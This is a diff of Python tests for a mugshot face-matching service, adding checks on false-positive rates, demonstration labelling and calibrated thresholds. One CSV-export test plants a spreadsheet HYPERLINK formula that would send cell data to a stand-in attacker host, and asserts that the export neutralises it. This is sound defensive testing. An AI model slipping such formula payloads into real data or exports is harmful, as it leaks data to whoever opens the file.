@@ -29,6 +29,7 @@ from gateway.faces.models import (
     MatchStatus,
 )
 from gateway.faces.services import (
+    DEMONSTRATION_LABEL,
     LEAD_LABEL,
     examiner_review_record,
     match_candidates_list,
@@ -38,6 +39,7 @@ from gateway.faces.services import (
     matching_evaluate,
 )
 from gateway.models import AuditEntry
+from gateway.records.models import Person
 from gateway.records.mugshots import mugshot_store
 from policies.services import key_file_create
 from tests.gateway.faces.test_gallery import booked, enroll
@@ -52,6 +54,9 @@ def _setup(settings):
     settings.FACE_EMBEDDER = "synthetic"
     settings.DEBUG = True
     settings.MATCH_THRESHOLD = 0.6
+    # 30 synthetic people cannot show FPIR 0.01 (that takes about 300 non-mated searches per group):
+    # these tests search under the labelled demonstration setting; the gate's own tests are below.
+    settings.MATCH_DEMONSTRATION = True
     settings.MATCH_LIST_SIZE = 5
     if not settings.POLICY_KEYS_FILE.exists():  # keep a key file other tests may have made
         key_file_create(path=settings.POLICY_KEYS_FILE)
@@ -122,9 +127,10 @@ def test_matching_is_refused_until_an_evaluation_passed(people, requester) -> No
     assert not MatchRequest.objects.exists()
 
 
-def test_evaluation_reports_per_group_and_gates_the_current_threshold(people, settings) -> None:
+def test_evaluation_reports_per_group_and_the_gate_says_why_a_small_gallery_fails(
+    people, settings
+) -> None:
     evaluation = matching_evaluate(replicates=100, holdout_share=0.3)
-    assert evaluation.passed
     rows = {(r["attribute"], r["group"]): r for r in evaluation.report["rows"]}
     assert {("race", "A"), ("race", "B")} <= set(rows)
     assert rows["overall", "overall"]["fnir"] == 0.0
@@ -133,9 +139,54 @@ def test_evaluation_reports_per_group_and_gates_the_current_threshold(people, se
         + rows["overall", "overall"]["nonmated_searches"]
         == 30
     )
+    # Issue 8.3: a handful of non-mated searches cannot show FPIR <= 0.01, whatever they found.
+    assert not evaluation.passed
+    codes = {f["code"] for f in evaluation.report["gate"]["failures"]}
+    assert "group_not_evaluated" in codes
+    assert evaluation.report["demonstration"] is True
     settings.MATCH_THRESHOLD = 0.05  # every mate is now further than the floor: FNIR 1
     strict = matching_evaluate(replicates=50)
-    assert not strict.passed
+    assert "fnir_over_max" in {f["code"] for f in strict.report["gate"]["failures"]}
+
+
+def test_the_gate_refuses_a_model_whose_every_non_mated_search_finds_someone(
+    people, requester, settings
+) -> None:
+    # The demo once recorded FPIR 1.0000 as passed: only FNIR and ratios were checked.
+    settings.MATCH_EVALUATION_MIN_NONMATED = 1  # even with the sample-size rule waived...
+    settings.MATCH_EVALUATION_MIN_MATED = 1
+    evaluation = matching_evaluate(threshold=10.0, replicates=20, holdout_share=0.3)
+    overall = next(r for r in evaluation.report["rows"] if r["group"] == "overall")
+    assert overall["fpir"] == 1.0
+    assert not evaluation.passed  # ...an FPIR of 1.0 fails on its exact upper bound
+    assert "fpir_over_max" in {f["code"] for f in evaluation.report["gate"]["failures"]}
+    settings.MATCH_DEMONSTRATION = False  # outside the demonstration setting nothing is searched
+    with pytest.raises(FaceMatchingError) as caught:
+        submit(requester, next(iter(people.values())))
+    assert caught.value.code == FaceMatchingErrorCode.NOT_EVALUATED
+
+
+def test_the_threshold_is_calibrated_on_non_mated_searches(people, settings) -> None:
+    settings.MATCH_DEMONSTRATION = False
+    settings.MATCH_EVALUATION_MAX_FPIR = 0.5
+    evaluation = matching_evaluate(replicates=20, holdout_share=0.5)
+    calibration = evaluation.report["calibration"]
+    assert calibration is not None
+    assert evaluation.threshold == calibration["threshold"]
+    assert calibration["fpir_upper"] <= 0.5
+    assert calibration["nonmated_searches"] > 0
+
+
+def test_searches_use_the_threshold_of_the_evaluation_that_admitted_them(
+    people, requester, settings
+) -> None:
+    settings.MATCH_DEMONSTRATION = False
+    evaluation = matching_evaluate(replicates=20)
+    MatchEvaluation.objects.filter(pk=evaluation.pk).update(passed=True, threshold=0.123)
+    match = submit(requester, next(iter(people.values())))
+    assert match.threshold == 0.123  # not MATCH_THRESHOLD (0.6)
+    assert match.label == LEAD_LABEL
+    assert all(c.distance < 0.123 for c in match.candidates.all())
 
 
 def test_a_probe_returns_its_person_first_as_a_pseudonymous_lead(
@@ -145,7 +196,7 @@ def test_a_probe_returns_its_person_first_as_a_pseudonymous_lead(
     person_id, centre = list(people.items())[7]
     match = submit(requester, centre + 0.004)
     assert match.status == MatchStatus.PENDING_REVIEW
-    assert match.label == LEAD_LABEL
+    assert match.label == f"{LEAD_LABEL} – {DEMONSTRATION_LABEL}"  # a small, unevaluated gallery
     assert match.snapshot is not None
     assert match.model_id == "synthetic-pixels-v1"
     candidates = list(match.candidates.order_by("rank"))
@@ -154,7 +205,7 @@ def test_a_probe_returns_its_person_first_as_a_pseudonymous_lead(
     assert first.person_id == person_id
     assert all(c.distance < 0.6 for c in candidates)
     shown = match_candidates_list(user=examiner, match_request_id=match.pk)
-    assert shown["label"] == LEAD_LABEL
+    assert shown["label"] == match.label
     assert [c["rank"] for c in shown["candidates"]] == list(range(1, len(candidates) + 1))
     text = str(shown)
     assert "booking" not in text  # pseudonyms only
@@ -287,13 +338,19 @@ def test_a_removed_person_is_never_a_candidate_again(people, requester) -> None:
 def test_evaluate_matching_command_writes_the_table(people, tmp_path) -> None:
     out = StringIO()
     target = tmp_path / "table.csv"
+    hostile = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
+    Person.objects.filter(pk=next(iter(people))).update(race=hostile)  # as a roster could hold it
     call_command("evaluate_matching", "--replicates", "30", "--output", str(target), stdout=out)
-    assert "PASSED" in out.getvalue()
+    assert "NOT PASSED" in out.getvalue()
     with target.open() as handle:
         rows = list(csv.DictReader(handle))
     assert rows[0]["group"] == "overall"
     assert {"race", "sex", "age_band"} <= {r["attribute"] for r in rows}
     assert MatchEvaluation.objects.count() == 1
+    # Issue 8.11: no cell a spreadsheet would run as a formula (OWASP CSV injection).
+    groups = {r["group"] for r in rows}
+    assert "'" + hostile in groups
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
 
 
 @pytest.mark.slow
@@ -316,7 +373,7 @@ def test_a_sample_face_probe_finds_its_gallery_match_first_with_the_real_models(
             mugshot_store(booking=booking, data=photo.png, synthetic=True)
     run = enroll(django_capture_on_commit_callbacks, chunk_size=4)
     assert run.enrolled >= 10
-    assert matching_evaluate(replicates=20, holdout_share=0.0).passed
+    matching_evaluate(replicates=20, holdout_share=0.0)  # too few faces to pass: demonstration
     target = sample_faces(lfw_count=5)[3]
     probe = next(v for v in sample_mated_variants(sample=target) if v.variant == "brighter")
     match = submit(requester, np.zeros(DIM), probe=probe.png)
